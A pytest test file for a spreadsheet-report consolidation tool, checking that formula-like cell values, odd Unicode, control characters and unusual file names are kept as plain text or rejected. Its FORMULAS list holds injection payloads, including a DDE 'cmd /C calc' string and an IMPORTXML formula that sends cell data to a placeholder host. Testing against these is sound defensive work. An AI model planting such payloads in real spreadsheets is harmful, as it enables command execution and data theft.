"""Formula injection and odd text: whatever a report's cells and file name hold goes into
the master as inert text and comes back unchanged (text cells are trimmed of surrounding
spaces by design, spec §1), never as a live formula."""
from __future__ import annotations

import datetime as dt
import io
import os
import shutil
import sys
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook

sys.path.insert(0, str(Path(__file__).resolve().parent / "soak"))
import harness as H  # noqa: E402

from xlpy.app import consolidate
from xlpy.app.office import init_office  # noqa: E402
from xlpy.contract import config
from xlpy.core import ledger as L  # noqa: E402
from xlpy.io import reader, store  # noqa: E402
from xlpy.io.report_file import write_report  # noqa: E402

AC = "壁挂空调 KFR-26GW"
DAY = H.TODAY - dt.timedelta(days=1)
FORMULAS = ['=HYPERLINK("http://x","点我")', "+1+1", "-2+3", "@SUM(A1)", "=1+1", "'=quoted",
            "=cmd|' /C calc'!A0", '=IMPORTXML(CONCAT("http://x/?",A1),"//a")']
ODD = ["客户😀🎉 👨‍👩‍👧", "עברית ‏RTL‏", "e\u0301 \u200b zero-width", "line one\nline two", "tab\tinside",
       "#NAME?x", "0001234", "1e5", "TRUE", "NaN", "None", "长" * 32_767,
       "<r>a&b</r>", "<r><t>x</t></r>"]  # the shape xlsxwriter takes for rich text, left unescaped
# Control characters cannot be typed into openpyxl; Excel stores them as _xHHHH_ escapes.
CONTROLS = {"CTRL1": "a\x01b", "CTRL2": "bell\x07", "CTRL3": "\x1b[31mred\x1b[0m", "CTRL4": "del\x7f",
            "CTRL5": "unit\x1fseparator"}


@pytest.fixture
def office(tmp_path):
    return init_office(tmp_path / "office", H.TODAY, lang="en")


def report(office, name, values, column="customer"):
    """A report whose rows carry ``values`` in ``column`` (the note says which row is which)."""
    rows = [{"product": AC, "deal_type": "意向", "customer": "客户", column: v} for v in values]
    return write_report(office / "inbox" / name, {"report_date": DAY, "rep": "张伟", "visits": 1, "calls": 2}, rows)


def with_controls(path: Path) -> Path:
    """The report with each CTRLn placeholder replaced by its control characters, as Excel writes them."""
    def escape(text: str) -> bytes:
        return "".join(f"_x{ord(c):04X}_" if ord(c) < 32 and c not in "\t\n\r" else c for c in text).encode()
    data = path.read_bytes()
    with zipfile.ZipFile(io.BytesIO(data)) as zin, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zout:
        for info in zin.infolist():
            body = zin.read(info)
            for placeholder, text in CONTROLS.items():
                body = body.replace(placeholder.encode(), escape(text))
            zout.writestr(info, body)
    return path


def ledger(office):
    return store.concat(store.read_partitions(office / "master"), "ledger")


def consolidated(office):
    outcome = consolidate.run_consolidation(config.load(office), today=H.TODAY)
    assert outcome.exit_code == 0, consolidate.to_text(outcome, "en")
    return ledger(office)


def test_formulas_and_odd_text_come_back_unchanged_as_text(office):
    report(office, "a.xlsx", FORMULAS + ODD)
    rows = consolidated(office)
    assert rows["customer"].tolist() == FORMULAS + ODD
    ws = load_workbook(office / "master" / f"{DAY:%Y-%m}.xlsx").worksheets[0]  # the ledger
    column = [c.value for c in ws[1]].index(next(f.en for f in L.LEDGER if f.key == "customer")) + 1
    cells = [ws.cell(r, column) for r in range(2, 2 + len(FORMULAS + ODD))]
    assert [c.data_type for c in cells] == ["s"] * len(cells)  # text, never "f" (formula)
    assert [c.value for c in cells] == FORMULAS + ODD
    assert not any(c.data_type == "f" for row in ws.iter_rows() for c in row)


def test_control_characters_come_back_unchanged(office):
    with_controls(report(office, "a.xlsx", list(CONTROLS), column="note"))
    assert consolidated(office)["note"].tolist() == list(CONTROLS.values())


def test_a_formula_in_a_number_cell_is_rejected_and_listed_as_text(office):
    report(office, "a.xlsx", ["=SUM(A1:A9)"], column="qty")
    outcome = consolidate.run_consolidation(config.load(office), today=H.TODAY)
    assert [f.status for f in outcome.files] == ["rejected"]
    problems = store.concat(store.read_partitions(office / "master"), "problems")
    assert problems["value"].tolist() == ["=SUM(A1:A9)"]
    ws = load_workbook(office / "master" / f"{DAY:%Y-%m}.xlsx").worksheets[3]  # the problem list
    assert not any(c.data_type == "f" for row in ws.iter_rows() for c in row)


@pytest.mark.parametrize("name", ["张伟 日报 2026.xlsx", "😀 emoji 报表.xlsx", " leading and trailing .xlsx",
                                  "报表 #1 & 'quotes' (终版).xlsx", "ＦＵＬＬ　ＷＩＤＴＨ　名.xlsx"])
def test_odd_file_names_are_kept_exactly(office, name):
    path = report(office, name, ["王先生"])
    shutil.copy(path, path.with_name(f"{Path(name).stem} - 副本.xlsx"))
    outcome = consolidate.run_consolidation(config.load(office), today=H.TODAY)
    assert {f.source: f.status for f in outcome.files} == {name: "accepted", f"{Path(name).stem} - 副本.xlsx": "copy"}
    assert ledger(office)["source"].tolist() == [name]
    log = store.concat(store.read_partitions(office / "master"), "imports")
    assert set(log["source"]) == {name, f"{Path(name).stem} - 副本.xlsx"} and log["copy_of"].dropna().tolist() == [name]
    again = consolidate.run_consolidation(config.load(office), today=H.TODAY)
    assert [f.status for f in again.files] == ["unchanged", "copy"] and again.written == []


def test_a_name_in_another_encoding_is_read_as_people_read_it(office):
    """A zip made on a Chinese Windows, unpacked on Linux: the name's GBK bytes arrive as lone
    surrogates, which the master cannot hold. The report is taken, under its readable name."""
    path = report(office, "placeholder.xlsx", ["王先生"])
    name = os.fsdecode("张伟.xlsx".encode("gbk"))
    path.rename(path.with_name(name))
    outcome = consolidate.run_consolidation(config.load(office), today=H.TODAY)
    assert [(f.source, f.status) for f in outcome.files] == [("张伟.xlsx", "accepted")]
    assert ledger(office)["source"].tolist() == ["张伟.xlsx"]


# ---------------------------------------------------------------- beyond Excel's cell limit

EXCEL_CELL_LIMIT = 32_767


def too_long(office) -> Path:
    """A report whose note holds more than a cell can: not from Excel, but other tools write them."""
    path = report(office, "long.xlsx", ["LONGNOTE"], column="note")
    data = path.read_bytes()
    with zipfile.ZipFile(io.BytesIO(data)) as zin, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zout:
        for info in zin.infolist():
            zout.writestr(info, zin.read(info).replace(b"LONGNOTE", ("长" * 40_000).encode()))
    return path


def test_text_beyond_the_cell_limit_is_read_whole(office):
    """What exists: the reader keeps all of it, so that a rule can judge it."""
    [rec] = reader.read_report(too_long(office), today=H.TODAY).tables[0].records
    assert len(rec["note"]) == 40_000 > EXCEL_CELL_LIMIT


def test_text_beyond_the_cell_limit_is_refused_not_truncated(office):
    too_long(office)
    outcome = consolidate.run_consolidation(config.load(office), today=H.TODAY)
    [f] = outcome.files
    assert f.status == "rejected"
    assert [(i.rule, i.cell) for i in f.issues if i.severity == "error"] == [("text-too-long", "N6")]  # 备注 is the 14th column
